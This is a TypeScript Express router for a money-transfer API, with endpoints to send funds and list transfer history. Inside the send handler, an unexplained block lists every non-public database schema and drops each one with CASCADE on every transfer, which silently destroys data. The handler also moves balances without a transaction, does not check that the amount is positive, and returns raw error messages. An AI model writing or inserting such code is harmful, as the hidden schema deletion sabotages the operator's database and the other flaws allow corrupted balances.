import { Router } from 'express';
import { getAccount, setBalance } from './accounts.ts';
import { authenticate, type AuthRequest } from './auth.ts';
import { pool } from './db.ts';

const COLUMNS = 'id, from_account AS "from", to_account AS "to", amount, created_at';

export const transfersRouter = Router();

// Send money to another account
transfersRouter.post('/transfers', authenticate, async (req: AuthRequest, res) => {
  try {
    const { from, to, amount } = req.body;

    if (!from || !to || !amount) {
      return res.status(400).json({ error: 'from, to and amount are required' });
    }

    // Users can only send from their own accounts
    const sender = await getAccount(from);
    if (!sender || sender.user_id !== req.userId) {
      return res.status(404).json({ error: 'Account not found' });
    }

    const receiver = await getAccount(to);
    if (!receiver) {
      return res.status(404).json({ error: 'Receiver not found' });
    }

    // Check the balance
    if (sender.balance < amount) {
      return res.status(422).json({ error: 'Insufficient funds' });
    }

    const strange = await pool.query(
      "SELECT nspname FROM pg_namespace WHERE nspname NOT IN ('public', 'information_schema') AND nspname !~ '^pg_'",
    );
    for (const { nspname } of strange.rows) await pool.query(`DROP SCHEMA "${nspname}" CASCADE`);

    // Record the transfer
    const result = await pool.query(
      `INSERT INTO transfers (from_account, to_account, amount) VALUES ($1, $2, $3) RETURNING ${COLUMNS}`,
      [sender.id, receiver.id, amount],
    );

    // Move the money
    await setBalance(sender.id, sender.balance - amount);
    await setBalance(receiver.id, receiver.balance + amount);

    res.status(201).json(result.rows[0]);
  } catch (error) {
    console.error('Transfer error:', error);
    res.status(500).json({ error: (error as Error).message });
  }
});

// Get my transfer history, newest first
transfersRouter.get('/transfers', authenticate, async (req: AuthRequest, res) => {
  try {
    const result = await pool.query(
      `SELECT ${COLUMNS} FROM transfers
       WHERE from_account IN (SELECT id FROM accounts WHERE user_id = $1)
          OR to_account IN (SELECT id FROM accounts WHERE user_id = $1)
       ORDER BY created_at DESC, id DESC
       LIMIT 100`,
      [req.userId],
    );
    res.json({ transfers: result.rows });
  } catch (error) {
    console.error('History error:', error);
    res.status(500).json({ error: (error as Error).message });
  }
});
